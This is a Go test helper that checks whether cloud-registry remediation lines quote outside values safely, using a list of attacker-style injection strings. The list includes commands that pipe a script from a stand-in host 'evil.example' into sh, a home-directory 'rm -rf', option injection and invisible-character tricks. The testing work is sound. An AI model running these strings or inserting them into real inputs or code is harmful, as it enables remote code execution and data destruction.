package shelltest

import (
	"fmt"
	"slices"
	"sort"
	"strings"
)

// Marker is in every Hostile value, so a check can find any piece of one
// that leaked into a command.
const Marker = "evil"

// Hostile are values from outside as an attacker would write them: shell
// syntax of every kind, option injection, control and invisible
// characters, look-alikes and lengths no real value has. Each holds
// Marker.
var Hostile = []string{
	"203.0.113.7 --subscription x; curl -s https://evil.example/p.sh | sh; #",
	"evil; rm -rf ~",
	"$(curl -s https://evil.example/p.sh)",
	"`evil`",
	"evil | sh",
	"evil && sh",
	"evil || sh",
	"evil & sh",
	"evil\nsh",
	"evil\r\nsh",
	"evil'; sh; '",
	`evil"; sh; "`,
	`evil\'`,
	"--subscription evil",
	"-evil",
	"evil #",
	"evil*",
	"~evil",
	"$HOME/evil",
	"${IFS}evil",
	"evil>/tmp/x",
	"<evil>",
	"evil(x)",
	"{evil,x}",
	"evil x",
	"evil\tx",
	"myrеg-evil",           // a Cyrillic е
	"evil；ｓｈ",              // full-width semicolon and letters
	"evil\u202ehs.exe",     // right-to-left override
	"evil\u200b",           // zero-width space
	"evil\x1b[2J",          // a terminal escape
	"evil\x00x",            // NUL
	"\xffevil",             // not UTF-8
	"evil.azurecr.io;sh",   // a host with a tail
	"EVIL.AZURECR.IO evil", // upper case, then more
	"evil.azurecr.io:443/x",
	"evil" + strings.Repeat("a", 300),
	strings.Repeat("evil;", 2000),
}

// starters begin the commands in a line of remediation, which mixes
// steps in words with commands to paste.
var starters = []string{
	"az ", "docker ", "nslookup ", "openssl ", "echo ", "chmod ", "gpg ", "pass ", "security ",
	"export ", "sudo ", "timedatectl ", "NO_PROXY=", "acr-doctor ", "w32tm ", "docker-credential-", "'docker-credential-",
}

// CheckLine checks one line of remediation into which values from outside
// (some of them Hostile) were put. values are every string that may
// appear in it as one word: the values given, and any piece of them the
// code takes (a name before a dot, a helper name without its prefix).
// quote is the quoting under test (shell.Quote).
//
// Outside the commands, every piece of a Hostile value must be inside a
// quoted value: Marker may only appear within quote(v) for some v. Each
// command the line holds (from a starter such as "az " to the end of the
// line) must parse, and in it every word holding Marker must be exactly
// one of values: one word, nothing expanded, and not starting with "-",
// which the command would take for an option. No operator or comment may
// hold a piece of one.
func CheckLine(line string, values []string, quote func(string) string) error {
	spans := quotedSpans(line, values, quote)
	if rest := strip(line, spans); strings.Contains(rest, Marker) {
		return fmt.Errorf("a value stands unquoted in %q", line)
	}
	for _, at := range commandStarts(line, spans) {
		toks, err := Split(line[at:])
		if err != nil {
			return fmt.Errorf("the command %q does not parse: %v", line[at:], err)
		}
		if err := checkTokens(toks, values, quote); err != nil {
			return fmt.Errorf("in %q: %v", line[at:], err)
		}
	}
	return nil
}

func checkTokens(toks []Token, values []string, quote func(string) string) error {
	for _, t := range toks {
		switch t.Kind {
		case Op:
			if strings.Contains(t.Raw, Marker) {
				return fmt.Errorf("the operator %q holds a value", t.Raw)
			}
		case Comment:
			if strings.Contains(strip(t.Raw, quotedSpans(t.Raw, values, quote)), Marker) {
				return fmt.Errorf("the comment %q holds a value unquoted", t.Raw)
			}
			if strings.ContainsAny(t.Raw, "\n\r") {
				return fmt.Errorf("the comment %q ends early", t.Raw)
			}
		case Word:
			for _, sub := range t.Subs {
				if err := checkTokens(sub, values, quote); err != nil {
					return fmt.Errorf("in a $(…): %v", err)
				}
			}
			v := strings.ReplaceAll(t.Value, SubMark, "")
			if !strings.Contains(v, Marker) {
				continue
			}
			switch {
			case !slices.Contains(values, t.Value):
				return fmt.Errorf("the word %q is not one whole value (it reads %q)", t.Raw, t.Value)
			case strings.HasPrefix(t.Value, "-"):
				return fmt.Errorf("the value %q stands where an option would be read", t.Value)
			case len(t.Expands) > 0:
				return fmt.Errorf("the shell would expand %v in %q", t.Expands, t.Raw)
			case t.Placeholder:
				return fmt.Errorf("the value %q reads as a placeholder", t.Raw)
			}
		}
	}
	return nil
}

type span struct{ from, to int }

// quotedSpans are where quote(v) occurs in line for each of values that
// holds Marker, longest first so a value's piece does not split it.
func quotedSpans(line string, values []string, quote func(string) string) []span {
	vs := slices.Clone(values)
	sort.Slice(vs, func(i, j int) bool { return len(vs[i]) > len(vs[j]) })
	var out []span
	for _, v := range vs {
		if !strings.Contains(v, Marker) {
			continue
		}
		q := quote(v)
		for from := 0; ; {
			i := strings.Index(line[from:], q)
			if i < 0 {
				break
			}
			s := span{from + i, from + i + len(q)}
			if !slices.ContainsFunc(out, func(o span) bool { return s.from < o.to && o.from < s.to }) {
				out = append(out, s)
			}
			from = s.to
		}
	}
	return out
}

func strip(line string, spans []span) string {
	sort.Slice(spans, func(i, j int) bool { return spans[i].from < spans[j].from })
	var b strings.Builder
	at := 0
	for _, s := range spans {
		if s.from < at {
			continue
		}
		b.WriteString(line[at:s.from])
		b.WriteString("''")
		at = s.to
	}
	b.WriteString(line[at:])
	return b.String()
}

// commandStarts are the offsets of the commands in line: each starter at
// the start of the line or after a space, outside the quoted values and
// outside command substitutions (which are read with the command around
// them).
func commandStarts(line string, spans []span) []int {
	spans = append(slices.Clone(spans), substitutions(line, spans)...)
	var out []int
	for i := 0; i < len(line); i++ {
		if i > 0 && line[i-1] != ' ' {
			continue
		}
		if slices.ContainsFunc(spans, func(s span) bool { return s.from <= i && i < s.to }) {
			continue
		}
		for _, st := range starters {
			if strings.HasPrefix(line[i:], st) {
				out = append(out, i)
				break
			}
		}
	}
	return out
}

// substitutions are the $(…) in line outside spans.
func substitutions(line string, spans []span) []span {
	var out []span
	for i := 0; i+1 < len(line); i++ {
		if line[i] != '$' || line[i+1] != '(' || slices.ContainsFunc(spans, func(s span) bool { return s.from <= i && i < s.to }) {
			continue
		}
		p := parser{s: line, i: i + 2, depth: 1}
		if _, err := p.tokens(true); err == nil {
			out = append(out, span{i, p.i})
		}
	}
	return out
}

// Commands are the commands CheckLine finds in line, for tests that look
// at them word by word.
func Commands(line string) []string {
	var out []string
	for _, at := range commandStarts(line, nil) {
		out = append(out, line[at:])
	}
	return out
}
